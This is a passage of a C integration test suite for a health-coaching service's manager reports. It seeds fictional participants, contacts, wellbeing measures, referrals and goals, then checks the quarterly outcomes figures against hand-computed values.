/*
 * it_reports.c - manager reports on a real `coachbox serve`: every figure of
 * the outcomes report on a crafted dataset worked out by hand, splits,
 * filters, suppression, reach against population, the people behind a
 * figure, data quality, the quarterly CSV (API and CLI, exact bytes), the
 * extract, IMD and population imports (malformed files change nothing),
 * and access rules.
 *
 * The period is 2026 Q3 (2026-07-01 .. 2026-09-30, Europe/London days); all
 * dates are in the past.  Ages are taken on 2026-09-30.  Teams: everyone is
 * in prestwich except Hunt (radcliffe).  V1, V2 are prestwich venues.
 *
 * People: age on 2026-09-30, sex, ethnic group, postcode (IMD decile), cohorts,
 * employment, referral source, main barrier.  NHS numbers: P1, P2, P3 only.
 *   P1 Ann Able  1990-10-01 35 F white_british BL9 0EJ (2) veteran;
 *      in_work, gp, mental_health
 *   P2 Ben Baker 1990-09-30 36 M asian_pakistani BL9 7AB (1) carer;
 *      out_of_work, jobcentre, musculoskeletal
 *   P3 Cat Cole  2002-01-15 24 F black_african M25 1AA (8) learning_disability;
 *      economically_inactive, self, autism
 *   P4 Dan Drew  1960-05-05 66 M not_stated (no postcode) long_term_condition;
 *      not_stated, gp, -
 *   P5 Eve Ely   1975-03-03 51 - (none) BL0 9ZZ (not in the IMD file); -, -, -
 *   P6 Fay Fox   1995-06-06 31 F mixed_white_asian BL9 0EJ (2) veteran and carer;
 *      in_work, employer, heart_blood_pressure
 *   P7 Gus Gale  1980-01-01 46 M other_arab BL9 7AB (1); in_work, self, -; discharged
 *   P8 Hal Hunt  1985-02-02 41 M white_irish M26 2AB (5); out_of_work,
 *      social_prescriber, other
 *
 * Contacts (coach alice unless noted; period membership by London date):
 *   P1 07-10 one_to_one V1 [smoking]; 08-15 phone [mental_wellbeing]; 09-01 dna
 *   P2 2026-07-01T00:30+01:00 drop_in V1 [physical_activity]: 23:30Z on 06-30, IN (07-01)
 *      2026-10-01T00:30+01:00 phone [physical_activity]: 23:30Z on 09-30, OUT (10-01)
 *   P3 08-20 group V2 [weight] (linked to session S2) and 08-27 video (no topics), by lena
 *   P4 09-10 one_to_one V1 [alcohol];  P5 07-20 drop_in V2 [smoking]
 *   P6 2026-09-30T22:59Z one_to_one V1 [smoking, diet]: London 23:59 on 09-30, IN
 *   P7 06-15 one_to_one (Q2: OUT);  P8 08-01 one_to_one [smoking] (bob, radcliffe)
 *   => one_to_one 4 (P1 P4 P6 P8), phone 1, drop_in 2, video 1, group 1, dna 1;
 *      total (not DNA) 9.
 * Programme PR1 (prestwich, lead lena, venue V2): S1 07-07, S2 07-14, S3 10-06 (OUT).
 *   S1: P3 attended, P7 absent, P1 apologies; S2: P3, P7 attended; S3: P3 attended.
 *   => attended 3, absent 1, apologies 1, rate 3/5 = 0.6.
 * People seen = a contact (not DNA) or an attended session: P1..P8 = 8.
 *
 * Referrals sent in Q3: P1 stop_smoking accepted, P1 gp sent, P2 exercise_referral
 *   attended, P8 stop_smoking declined (P4 stop_smoking 06-20: OUT).  => total 4.
 *
 * SWEMWBS raw -> metric; pair = earliest baseline, latest review/exit in Q3 after it:
 *   P1 base 05-01 21->19.25, review 07-20 24->21.54, exit 09-20 28->25.03: +5.78 up
 *   P2 base 07-05 28->25.03, review 09-05 26->23.21: -1.82 (no change)
 *   P3 base 07-05 14->15.32, review 08-30 21->19.25, review 10-10 (OUT): +3.93 up
 *   P6 base 06-01 30->27.03, base 08-01 7->7.00, review 09-25 26->23.21: -3.82 down
 *      (the latest-baseline rule would give +16.21)
 *   P7 base 04-01 17->16.88, review 07-25 20->18.59: +1.71 (no change)
 *   P4 baseline 07-10 only; P5 review 08-01 only: no pairs.
 *   => pairs 5; baseline mean 103.51/5 = 20.70; follow-up 109.29/5 = 21.86;
 *      change 1.16; improved 2 (share 0.4), declined 1, no meaningful change 2.
 * ONS4: P1 05-01 {4,5,3,8} -> 08-15 {6,7,6,4}; P2 07-05 {7,7,7,2} -> exit 09-05 {8,8,9,1}
 *   => pairs 2; life_satisfaction 5.5 -> 7.0 (+1.5); worthwhile 6.0 -> 7.5 (+1.5);
 *      happiness 5.0 -> 7.5 (+2.5); anxiety 5.0 -> 2.5 (-2.5).
 * GPPAQ index: P1 1 -> 3 (up); P3 4 -> 2 (down); P4 3 -> 3
 *   => pairs 3, up 1, down 1, same 1, means 2.67 -> 2.67, change 0.0.
 * BMI: P1 170 cm 80.0 -> 76.0 kg (27.7 -> 26.3); P2 180 cm 100 -> 97 (30.9 -> 29.9);
 *   P6 baseline only.  => bmi 29.3 -> 28.1 (-1.2); weight 90.0 -> 86.5 (-3.5).
 * AUDIT-C: P4 8 -> 4 => pairs 1, positive at baseline 1, at follow-up 0.
 * Smoking quit attempts: P1 quit 07-10, follow-up 08-08, CO 5 (validated); P5 quit
 *   07-20, follow-up 08-18, no CO (self-reported); P6 quit 09-15, no follow-up; P8
 *   quit 06-20, follow-up 07-20, CO 12 (self-reported).
 *   => quit dates set 3 (P1 P5 P6); self-reported 3 (P1 P5 P8); CO-validated 1 (P1).
 * Goals agreed in Q3: P1 smoking 07-10 fully (review 08-15); P1 mental_wellbeing
 *   08-15 partly; P2 physical_activity 07-02 not achieved; P3 weight 08-20 open;
 *   P6 smoking 09-30 fully (review 10-15); P8 smoking 08-01 open (P7 06-15: OUT).
 *   => agreed 6, people 5, fully 2, partly 1, not 1, open 2; of the 4 with an
 *      outcome: fully 0.5, partly 0.25.
 *
 * Quarterly return: engaged = seen (8); action plans = people with a goal agreed
 *   (P1 P2 P3 P6 P8 = 5); every other cell is 0-3, so "<5" at the default threshold
 *   (CSV_T5) and visible at threshold 2 (CSV_T2).
 * Data quality (active people: all but Gale; 12 weeks before today): no NHS number
 *   Drew, Ely, Fox, Hunt; no ethnic group Ely; no postcode Drew; postcode not in the
 *   IMD file Ely; Baker's incomplete PHQ-9; Cole's video contact has no topic; latest
 *   measure a baseline 12+ weeks old: Fox BMI 06-01, Drew SWEMWBS 07-10, Baker PHQ-9
 *   08-01 (Fox's GAD-7 baseline of yesterday is too recent).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "harness.h"

#include "coachbox/store.h"
#include "coachbox/team.h"

#define PW "correct-horse-battery-1"
#define Q3 "from=2026-07-01&to=2026-09-30"

enum { ALICE, LENA, BOB, MGR, ADM, NUSERS };

static const char *const users[NUSERS][3] = {
    {"alice", "coach", "prestwich"}, {"lena", "lead", "prestwich"}, {"bob", "coach", "radcliffe"},
    {"mgr", "manager", NULL},        {"adm", "admin", NULL},
};

static struct {
    struct cbt_server srv;
    int started;
    char data[512];
    struct cbt_client c[NUSERS];
    char uid[NUSERS][40];
    char v1[40], v2[40], prog[40], s1[40], s2[40], s3[40];
    char p[9][40]; /* p[1]..p[8] */
} G;

/* ---------------------------------------------------------------- helpers */

static void rq(struct cbt_client *c, const char *method, const char *path, const char *body,
               struct cbt_resp *r)
{
    if (cbt_request(c, method, path, body, r) != 0) {
        fail_msg("%s %s: no HTTP response", method, path);
    }
}

static void expect_status(const struct cbt_resp *r, long want, const char *what)
{
    if (r->status != want) {
        fail_msg("%s: want HTTP %ld, got %ld: %.400s", what, want, r->status, r->body);
    }
}

/* POST json (stolen) as who, expecting 201; copies the new id into id_out (may be NULL). */
static void post(int who, const char *path, json_t *json, char *id_out)
{
    char *text = json_dumps(json, JSON_COMPACT);
    json_decref(json);
    assert_non_null(text);
    struct cbt_resp r;
    rq(&G.c[who], "POST", path, text, &r);
    if (r.status != 201) {
        fail_msg("POST %s %s: HTTP %ld %.400s", path, text, r.status, r.body);
    }
    if (id_out) {
        snprintf(id_out, 40, "%s", cbt_jstr(&r, "id"));
    }
    free(text);
    cbt_resp_free(&r);
}

static json_t *get_ok(int who, const char *path)
{
    struct cbt_resp r;
    rq(&G.c[who], "GET", path, NULL, &r);
    expect_status(&r, 200, path);
    json_t *j = json_incref(r.json);
    assert_non_null(j);
    cbt_resp_free(&r);
    return j;
}

static void expect_error(int who, const char *path, long status, const char *field)
{
    struct cbt_resp r;
    rq(&G.c[who], "GET", path, NULL, &r);
    expect_status(&r, status, path);
    if (field) {
        const char *f = cbt_jstr(&r, "error.field");
        if (!f || strcmp(f, field) != 0) {
            fail_msg("%s: error.field %s, want %s (%.300s)", path, f ? f : "(none)", field, r.body);
        }
    }
    cbt_resp_free(&r);
}

/* The value at a dotted path ("total.swemwbs.pairs"); a segment "[key]" picks the
 * item of an array whose "key" equals key. */
static json_t *at(json_t *root, const char *path)
{
    char buf[256];
    snprintf(buf, sizeof(buf), "%s", path);
    json_t *cur = root;
    for (char *seg = buf; seg && cur;) {
        char *dot = strchr(seg, '.');
        if (dot) {
            *dot = '\0';
        }
        if (seg[0] == '[') {
            char key[64];
            snprintf(key, sizeof(key), "%.*s", (int)strlen(seg) - 2, seg + 1);
            json_t *found = NULL, *it;
            size_t i;
            json_array_foreach(cur, i, it)
            {
                const char *k = json_string_value(json_object_get(it, "key"));
                if (k && strcmp(k, key) == 0) {
                    found = it;
                }
            }
            cur = found;
        } else {
            cur = json_object_get(cur, seg);
        }
        seg = dot ? dot + 1 : NULL;
    }
    return cur;
}

/* Expect the value at path to equal want (JSON text: 5, 20.7, "<5", null). */
static void expect_at(json_t *root, const char *path, const char *want, const char *what)
{
    json_t *got = at(root, path);
    json_t *w = json_loads(want, JSON_DECODE_ANY, NULL);
    assert_non_null(w);
    int ok = got && json_equal(got, w);
    if (!ok && got && json_is_number(got) && json_is_number(w)) {
        double a = json_number_value(got), b = json_number_value(w);
        ok = json_is_real(got) == json_is_real(w) && (a - b < 1e-9 && b - a < 1e-9);
    }
    if (!ok) {
        char *g = got ? json_dumps(got, JSON_ENCODE_ANY | JSON_COMPACT) : NULL;
        fail_msg("%s: %s = %s, want %s", what, path, g ? g : "(missing)", want);
    }
    json_decref(w);
}

struct kv {
    const char *path, *want;
};

static void expect_all(json_t *root, const struct kv *kv, size_t n, const char *what)
{
    for (size_t i = 0; i < n; i++) {
        expect_at(root, kv[i].path, kv[i].want, what);
    }
}

/* Family names of a records answer, joined with ','. */
static void record_names(json_t *j, char *out, size_t len)
{
    size_t i, o = 0;
    json_t *it;
    out[0] = '\0';
    json_array_foreach(json_object_get(j, "items"), i, it)
    {
        int w = snprintf(out + o, len - o, "%s%s", i ? "," : "",
                         json_string_value(json_object_get(it, "family_name")));
        assert_true(w > 0 && (size_t)w < len - o);
        o += (size_t)w;
    }
}

static void expect_records(int who, const char *query, const char *want)
{
    char path[512], got[512];
    snprintf(path, sizeof(path), "/api/reports/outcomes/records?" Q3 "&%s", query);
    json_t *j = get_ok(who, path);
    record_names(j, got, sizeof(got));
    if (strcmp(got, want) != 0) {
        fail_msg("records %s: got [%s], want [%s]", query, got, want);
    }
    json_decref(j);
}

/* ------------------------------------------------------------ data makers */

static void person(int who, int n, const char *given, const char *family, const char *dob,
                   json_t *extra)
{
    json_t *b = json_pack("{s:s, s:s, s:s}", "given_name", given, "family_name", family,
                          "date_of_birth", dob);
    json_object_update(b, extra);
    json_decref(extra);
    post(who, "/api/participants", b, G.p[n]);
}

static void contact(int who, int n, const char *type, const char *when, const char *venue,
                    const char *topics)
{
    json_t *b =
        json_pack("{s:s, s:s, s:s}", "participant_id", G.p[n], "type", type, "occurred_at", when);
    if (venue) {
        json_object_set_new(b, "venue", json_string(venue));
    }
    if (topics) {
        json_object_set_new(b, "topics", json_loads(topics, 0, NULL));
    }
    post(who, "/api/encounters", b, NULL);
}

static void measure(int who, int n, const char *instrument, const char *timepoint, const char *date,
                    const char *responses)
{
    char when[40];
    snprintf(when, sizeof(when), "%sT10:00:00Z", date);
    json_t *b = json_pack("{s:s, s:s, s:s, s:s, s:o}", "participant_id", G.p[n], "instrument",
                          instrument, "timepoint", timepoint, "taken_at", when, "responses",
                          json_loads(responses, 0, NULL));
    if (strchr(instrument, '9')) { /* phq9 left incomplete on purpose */
        json_object_set_new(b, "allow_incomplete", json_true());
    }
    post(who, "/api/measures", b, NULL);
}

/* SWEMWBS with the seven item scores given as "a b c d e f g". */
static void swem(int who, int n, const char *tp, const char *date, const char *items)
{
    char resp[200];
    long q[7];
    char *end = NULL;
    for (int i = 0; i < 7; i++) {
        q[i] = strtol(i ? end : items, &end, 10);
    }
    snprintf(resp, sizeof(resp),
             "{\"q1\":%ld,\"q2\":%ld,\"q3\":%ld,\"q4\":%ld,\"q5\":%ld,\"q6\":%ld,\"q7\":%ld}", q[0],
             q[1], q[2], q[3], q[4], q[5], q[6]);
    measure(who, n, "swemwbs", tp, date, resp);
}

static void goal(int who, int n, const char *topic, const char *agreed, const char *reviewed,
                 const char *status)
{
    char id[40];
    post(who, "/api/goals",
         json_pack("{s:s, s:s, s:s, s:s}", "participant_id", G.p[n], "text", "A SMART goal",
                   "topic", topic, "agreed_date", agreed),
         id);
    if (reviewed) {
        post(who, "/api/goal-reviews",
             json_pack("{s:s, s:s, s:s}", "goal_id", id, "reviewed_on", reviewed, "status", status),
             NULL);
    }
}

static void referral(int who, int n, const char *dest, const char *sent, const char *status)
{
    post(who, "/api/referrals",
         json_pack("{s:s, s:s, s:s, s:s}", "participant_id", G.p[n], "destination", dest,
                   "sent_date", sent, "status", status),
         NULL);
}

static void attend(int n, const char *session, const char *status)
{
    post(LENA, "/api/attendance",
         json_pack("{s:s, s:s, s:s}", "participant_id", G.p[n], "session_id", session, "status",
                   status),
         NULL);
}

/* Write text to a file in the temp area; path into out. */
static void write_file(const char *name, const char *text, char out[600])
{
    snprintf(out, 600, "%s-%s", G.data, name);
    FILE *f = fopen(out, "wb");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static char *read_file(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (!f) {
        return NULL;
    }
    char *buf = malloc(1 << 20);
    size_t n = fread(buf, 1, (1 << 20) - 1, f);
    buf[n] = '\0';
    fclose(f);
    if (len) {
        *len = n;
    }
    return buf;
}

/* ------------------------------------------------------------- the data */

static const char *const IMD_CSV = "postcode,decile\r\n"
                                   "BL9 0EJ,2\r\n"
                                   "bl97ab,1\r\n"
                                   "M25 1AA,8\r\n"
                                   "m26 2ab,5\r\n";

/* The same content in the shape of the IoD postcode lookup, with an LSOA name that holds a
 * comma (quoted) and a byte order mark. */
static const char *const IMD_LSOA_CSV =
    "\xEF\xBB\xBFPostcode,LSOA code,LSOA name,Index of Multiple Deprivation Decile\n"
    "BL9 0EJ,E01005001,\"Bury 001A, East\",2\n"
    "BL9 7AB,E01005002,Bury 002B,1\n"
    "M25 1AA,E01005003,\"Bury \"\"Prestwich\"\" 010C\",8\n"
    "M26 2AB,E01005004,Bury 020D,5\n";

static void seed(void)
{
    char imd[600];
    write_file("imd.csv", IMD_CSV, imd);
    char out[2048];
    const char *args[] = {"import", "imd", "--data", G.data, imd, NULL};
    int st = cbt_run(args, NULL, out, sizeof(out));
    if (st != 0 || !strstr(out, "imported 4 postcodes")) {
        fail_msg("import imd: status %d: %s", st, out);
    }

    post(ALICE, "/api/venues", json_pack("{s:s, s:s}", "name", "Longfield", "team", "prestwich"),
         G.v1);
    post(ALICE, "/api/venues", json_pack("{s:s, s:s}", "name", "Sedgley", "team", "prestwich"),
         G.v2);

    person(ALICE, 1, "Ann", "Able", "1990-10-01",
           json_pack("{s:s, s:s, s:s, s:s, s:b, s:s, s:s, s:s}", "nhs_number", "9990000018", "sex",
                     "female", "ethnic_group", "white_british", "postcode", "BL9 0EJ", "veteran", 1,
                     "employment_status", "in_work", "referral_source", "gp", "main_barrier",
                     "mental_health"));
    person(ALICE, 2, "Ben", "Baker", "1990-09-30",
           json_pack("{s:s, s:s, s:s, s:s, s:b, s:s, s:s, s:s}", "nhs_number", "9990000026", "sex",
                     "male", "ethnic_group", "asian_pakistani", "postcode", "bl9 7ab", "carer", 1,
                     "employment_status", "out_of_work", "referral_source", "jobcentre",
                     "main_barrier", "musculoskeletal"));
    person(ALICE, 3, "Cat", "Cole", "2002-01-15",
           json_pack("{s:s, s:s, s:s, s:s, s:b, s:s, s:s, s:s}", "nhs_number", "9990000034", "sex",
                     "female", "ethnic_group", "black_african", "postcode", "M25 1AA",
                     "learning_disability", 1, "employment_status", "economically_inactive",
                     "referral_source", "self", "main_barrier", "autism"));
    person(ALICE, 4, "Dan", "Drew", "1960-05-05",
           json_pack("{s:s, s:s, s:b, s:b, s:s, s:s}", "sex", "male", "ethnic_group", "not_stated",
                     "long_term_condition", 1, "veteran", 0, "employment_status", "not_stated",
                     "referral_source", "gp"));
    person(ALICE, 5, "Eve", "Ely", "1975-03-03", json_pack("{s:s}", "postcode", "BL0 9ZZ"));
    person(ALICE, 6, "Fay", "Fox", "1995-06-06",
           json_pack("{s:s, s:s, s:s, s:b, s:b, s:s, s:s, s:s}", "sex", "female", "ethnic_group",
                     "mixed_white_asian", "postcode", "BL9 0EJ", "veteran", 1, "carer", 1,
                     "employment_status", "in_work", "referral_source", "employer", "main_barrier",
                     "heart_blood_pressure"));
    person(ALICE, 7, "Gus", "Gale", "1980-01-01",
           json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s}", "sex", "male", "ethnic_group",
                     "other_arab", "postcode", "BL9 7AB", "employment_status", "in_work",
                     "referral_source", "self", "status", "discharged", "discharge_reason",
                     "completed", "discharge_date", "2026-01-15"));
    person(BOB, 8, "Hal", "Hunt", "1985-02-02",
           json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:s}", "team", "radcliffe", "sex", "male",
                     "ethnic_group", "white_irish", "postcode", "M26 2AB", "employment_status",
                     "out_of_work", "referral_source", "social_prescriber", "main_barrier",
                     "other"));

    /* the group programme */
    post(LENA, "/api/programmes",
         json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:i}", "name", "Walk and talk", "topic",
                   "physical_activity", "team", "prestwich", "venue", G.v2, "lead", G.uid[LENA],
                   "start_date", "2026-07-07", "weeks", 3),
         G.prog);
    post(LENA, "/api/group-sessions",
         json_pack("{s:s, s:i, s:s}", "programme_id", G.prog, "session_number", 1, "starts_at",
                   "2026-07-07T10:00:00Z"),
         G.s1);
    post(LENA, "/api/group-sessions",
         json_pack("{s:s, s:i, s:s}", "programme_id", G.prog, "session_number", 2, "starts_at",
                   "2026-07-14T10:00:00Z"),
         G.s2);
    post(LENA, "/api/group-sessions",
         json_pack("{s:s, s:i, s:s}", "programme_id", G.prog, "session_number", 3, "starts_at",
                   "2026-10-06T10:00:00Z"),
         G.s3);
    /* contacts */
    contact(ALICE, 1, "one_to_one", "2026-07-10T10:00:00Z", G.v1, "[\"smoking\"]");
    contact(ALICE, 1, "phone", "2026-08-15T10:00:00Z", NULL, "[\"mental_wellbeing\"]");
    contact(ALICE, 1, "dna", "2026-09-01T10:00:00Z", NULL, NULL);
    contact(ALICE, 2, "drop_in", "2026-07-01T00:30:00+01:00", G.v1, "[\"physical_activity\"]");
    contact(ALICE, 2, "phone", "2026-10-01T00:30:00+01:00", NULL, "[\"physical_activity\"]");
    post(LENA, "/api/encounters",
         json_pack("{s:s, s:s, s:s, s:s, s:[s], s:s}", "participant_id", G.p[3], "type", "group",
                   "occurred_at", "2026-08-20T10:00:00Z", "venue", G.v2, "topics", "weight",
                   "group_session_id", G.s2),
         NULL);
    contact(LENA, 3, "video", "2026-08-27T10:00:00Z", NULL, NULL);
    contact(ALICE, 4, "one_to_one", "2026-09-10T10:00:00Z", G.v1, "[\"alcohol\"]");
    contact(ALICE, 5, "drop_in", "2026-07-20T10:00:00Z", G.v2, "[\"smoking\"]");
    contact(ALICE, 6, "one_to_one", "2026-09-30T22:59:00Z", G.v1, "[\"smoking\",\"diet\"]");
    contact(ALICE, 7, "one_to_one", "2026-06-15T10:00:00Z", NULL, "[\"physical_activity\"]");
    contact(BOB, 8, "one_to_one", "2026-08-01T10:00:00Z", NULL, "[\"smoking\"]");

    /* attendance needs an enrolment (F31) */
    for (int n = 1; n <= 7; n += 2) {
        if (n != 5) {
            post(LENA, "/api/enrolments",
                 json_pack("{s:s, s:s, s:s}", "participant_id", G.p[n], "programme_id", G.prog,
                           "enrolled_on", "2026-06-01"),
                 NULL);
        }
    }
    attend(3, G.s1, "attended");
    attend(7, G.s1, "absent");
    attend(1, G.s1, "apologies");
    attend(3, G.s2, "attended");
    attend(7, G.s2, "attended");
    attend(3, G.s3, "attended");

    /* referrals */
    referral(ALICE, 1, "stop_smoking", "2026-07-10", "accepted");
    referral(ALICE, 1, "gp", "2026-08-15", "sent");
    referral(ALICE, 2, "exercise_referral", "2026-07-02", "attended");
    referral(ALICE, 4, "stop_smoking", "2026-06-20", "sent");
    referral(BOB, 8, "stop_smoking", "2026-08-01", "declined");

    /* SWEMWBS */
    swem(ALICE, 1, "baseline", "2026-05-01", "3 3 3 3 3 3 3");
    swem(ALICE, 1, "review", "2026-07-20", "4 4 4 3 3 3 3");
    swem(ALICE, 1, "exit", "2026-09-20", "4 4 4 4 4 4 4");
    swem(ALICE, 2, "baseline", "2026-07-05", "4 4 4 4 4 4 4");
    swem(ALICE, 2, "review", "2026-09-05", "4 4 4 4 4 3 3");
    swem(ALICE, 3, "baseline", "2026-07-05", "2 2 2 2 2 2 2");
    swem(ALICE, 3, "review", "2026-08-30", "3 3 3 3 3 3 3");
    swem(ALICE, 3, "review", "2026-10-10", "5 5 5 5 5 5 5");
    swem(ALICE, 6, "baseline", "2026-06-01", "5 5 4 4 4 4 4");
    swem(ALICE, 6, "baseline", "2026-08-01", "1 1 1 1 1 1 1");
    swem(ALICE, 6, "review", "2026-09-25", "4 4 4 4 4 3 3");
    swem(ALICE, 7, "baseline", "2026-04-01", "3 3 3 2 2 2 2");
    swem(ALICE, 7, "review", "2026-07-25", "3 3 3 3 3 3 2");
    swem(ALICE, 4, "baseline", "2026-07-10", "3 3 3 3 3 3 3");
    swem(ALICE, 5, "review", "2026-08-01", "3 3 3 3 3 3 3");

    /* ONS4, GPPAQ, BMI, AUDIT-C, PHQ-9 (incomplete) */
    measure(ALICE, 1, "ons4", "baseline", "2026-05-01", "{\"q1\":4,\"q2\":5,\"q3\":3,\"q4\":8}");
    measure(ALICE, 1, "ons4", "review", "2026-08-15", "{\"q1\":6,\"q2\":7,\"q3\":6,\"q4\":4}");
    measure(ALICE, 2, "ons4", "baseline", "2026-07-05", "{\"q1\":7,\"q2\":7,\"q3\":7,\"q4\":2}");
    measure(ALICE, 2, "ons4", "exit", "2026-09-05", "{\"q1\":8,\"q2\":8,\"q3\":9,\"q4\":1}");
    measure(
        ALICE, 1, "gppaq", "baseline", "2026-05-01",
        "{\"occupation\":\"sedentary\",\"exercise_hours\":\"none\",\"cycling_hours\":\"none\"}");
    measure(
        ALICE, 1, "gppaq", "review", "2026-08-15",
        "{\"occupation\":\"sedentary\",\"exercise_hours\":\"1to3\",\"cycling_hours\":\"none\"}");
    measure(ALICE, 3, "gppaq", "baseline", "2026-07-05",
            "{\"occupation\":\"sedentary\",\"exercise_hours\":\"ge3\",\"cycling_hours\":\"none\"}");
    measure(ALICE, 3, "gppaq", "review", "2026-08-30",
            "{\"occupation\":\"sedentary\",\"exercise_hours\":\"lt1\",\"cycling_hours\":\"none\"}");
    measure(ALICE, 4, "gppaq", "baseline", "2026-07-10",
            "{\"occupation\":\"standing\",\"exercise_hours\":\"lt1\",\"cycling_hours\":\"none\"}");
    measure(ALICE, 4, "gppaq", "review", "2026-09-10",
            "{\"occupation\":\"standing\",\"exercise_hours\":\"lt1\",\"cycling_hours\":\"none\"}");
    measure(ALICE, 1, "bmi", "baseline", "2026-05-01", "{\"height_cm\":170,\"weight_kg\":80.0}");
    measure(ALICE, 1, "bmi", "review", "2026-09-20", "{\"height_cm\":170,\"weight_kg\":76.0}");
    measure(ALICE, 2, "bmi", "baseline", "2026-07-05", "{\"height_cm\":180,\"weight_kg\":100}");
    measure(ALICE, 2, "bmi", "exit", "2026-09-05", "{\"height_cm\":180,\"weight_kg\":97}");
    measure(ALICE, 6, "bmi", "baseline", "2026-06-01", "{\"height_cm\":160,\"weight_kg\":70}");
    measure(ALICE, 4, "audit_c", "baseline", "2026-07-10", "{\"q1\":4,\"q2\":2,\"q3\":2}");
    measure(ALICE, 4, "audit_c", "review", "2026-09-10", "{\"q1\":2,\"q2\":1,\"q3\":1}");
    measure(ALICE, 2, "phq9", "baseline", "2026-08-01",
            "{\"q1\":1,\"q2\":1,\"q3\":1,\"q4\":1,\"q5\":1,\"q6\":1,\"q7\":1,\"q8\":1}");

    /* smoking */
    measure(ALICE, 1, "smoking", "review", "2026-08-08",
            "{\"status\":\"quit_attempt\",\"quit_date\":\"2026-07-10\",\"followup_date\":"
            "\"2026-08-08\",\"self_reported_quit\":true,\"co_ppm\":5}");
    measure(ALICE, 5, "smoking", "review", "2026-08-18",
            "{\"status\":\"quit_attempt\",\"quit_date\":\"2026-07-20\",\"followup_date\":"
            "\"2026-08-18\",\"self_reported_quit\":true}");
    measure(ALICE, 6, "smoking", "review", "2026-09-15",
            "{\"status\":\"quit_attempt\",\"quit_date\":\"2026-09-15\"}");
    measure(BOB, 8, "smoking", "review", "2026-07-20",
            "{\"status\":\"quit_attempt\",\"quit_date\":\"2026-06-20\",\"followup_date\":"
            "\"2026-07-20\",\"self_reported_quit\":true,\"co_ppm\":12}");

    /* a baseline taken yesterday is never due for review */
    char yesterday[32];
    time_t t = time(NULL) - 86400;
    struct tm tm;
    gmtime_r(&t, &tm);
    strftime(yesterday, sizeof(yesterday), "%Y-%m-%d", &tm);
    measure(ALICE, 6, "gad7", "baseline", yesterday,
            "{\"q1\":1,\"q2\":1,\"q3\":1,\"q4\":1,\"q5\":1,\"q6\":1,\"q7\":1}");

    /* goals */
    goal(ALICE, 1, "smoking", "2026-07-10", "2026-08-15", "fully_achieved");
    goal(ALICE, 1, "mental_wellbeing", "2026-08-15", "2026-09-20", "partly_achieved");
    goal(ALICE, 2, "physical_activity", "2026-07-02", "2026-09-05", "not_achieved");
    goal(ALICE, 3, "weight", "2026-08-20", NULL, NULL);
    goal(ALICE, 6, "smoking", "2026-09-30", "2026-10-15", "fully_achieved");
    goal(ALICE, 7, "physical_activity", "2026-06-15", NULL, NULL);
    goal(BOB, 8, "smoking", "2026-08-01", NULL, NULL);
}

/* ------------------------------------------------------------ group setup */

static int group_setup(void **state)
{
    (void)state;
    cbt_tempdir(G.data, sizeof(G.data), "itreports");
    for (int i = 0; i < NUSERS; i++) {
        if (cbt_add_user(G.data, users[i][0], users[i][1], users[i][2], PW) != 0) {
            fprintf(stderr, "cannot add user %s\n", users[i][0]);
            return -1;
        }
    }
    if (cbt_server_start(&G.srv, G.data, NULL) != 0) {
        fprintf(stderr, "server did not start\n");
        return -1;
    }
    G.started = 1;
    for (int i = 0; i < NUSERS; i++) {
        cbt_client_init(&G.c[i], G.srv.url);
        if (cbt_login(&G.c[i], users[i][0], PW) != 200) {
            fprintf(stderr, "login %s failed\n", users[i][0]);
            return -1;
        }
        struct cbt_resp r;
        if (cbt_request(&G.c[i], "GET", "/api/me", NULL, &r) != 0 || !cbt_jstr(&r, "user.id")) {
            return -1;
        }
        snprintf(G.uid[i], sizeof(G.uid[i]), "%s", cbt_jstr(&r, "user.id"));
        cbt_resp_free(&r);
    }
    return 0;
}

static int group_teardown(void **state)
{
    (void)state;
    for (int i = 0; i < NUSERS; i++) {
        cbt_client_free(&G.c[i]);
    }
    if (G.started) {
        cbt_server_stop(&G.srv);
    }
    static const char *const files[] = {
        "imd.csv", "lsoa.csv",   "bad1.csv", "bad2.csv", "bad3.csv",    "bad4.csv", "bad5.csv",
        "pop.csv", "badpop.csv", "q.csv",    "q19.csv",  "q19.csv.tmp", "victim"};
    char path[700];
    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        snprintf(path, sizeof(path), "%s-%s", G.data, files[i]);
        remove(path);
    }
    static const char *const dirs[] = {"extract", "extract-f19", "extract-f22"};
    for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
        snprintf(path, sizeof(path), "%s-%s", G.data, dirs[i]);
        cbt_rmtree(path);
    }
    cbt_rmtree(G.data);
    return 0;
}

/* ------------------------------------------------------------------ tests */

static void test_seed(void **state)
{
    (void)state;
    seed();
}

/* Every figure of the total, all teams. */
static void test_outcomes_total(void **state)
{
    (void)state;
    json_t *j = get_ok(MGR, "/api/reports/outcomes?" Q3);
    static const struct kv kv[] = {
        {"period.from", "\"2026-07-01\""},
        {"period.to", "\"2026-09-30\""},
        {"age_at", "\"2026-09-30\""},
        {"suppressed", "false"},
        {"small_number_threshold", "5"},
        {"swemwbs_meaningful_change", "3.0"},
        {"total.people_seen", "8"},
        {"total.contacts.total", "9"},
        {"total.contacts.one_to_one", "4"},
        {"total.contacts.phone", "1"},
        {"total.contacts.drop_in", "2"},
        {"total.contacts.video", "1"},
        {"total.contacts.group", "1"},
        {"total.contacts.dna", "1"},
        {"total.group_attendance.attended", "3"},
        {"total.group_attendance.absent", "1"},
        {"total.group_attendance.apologies", "1"},
        {"total.group_attendance.rate", "0.6"},
        {"total.referrals.total", "4"},
        {"total.referrals.by_destination.stop_smoking.total", "2"},
        {"total.referrals.by_destination.stop_smoking.accepted", "1"},
        {"total.referrals.by_destination.stop_smoking.declined", "1"},
        {"total.referrals.by_destination.stop_smoking.sent", "0"},
        {"total.referrals.by_destination.gp.sent", "1"},
        {"total.referrals.by_destination.exercise_referral.attended", "1"},
        {"total.referrals.by_destination.bowel_screening.total", "0"},
        {"total.referrals.by_status.sent", "1"},
        {"total.referrals.by_status.accepted", "1"},
        {"total.referrals.by_status.declined", "1"},
        {"total.referrals.by_status.attended", "1"},
        {"total.swemwbs.pairs", "5"},
        {"total.swemwbs.baseline_mean", "20.7"},
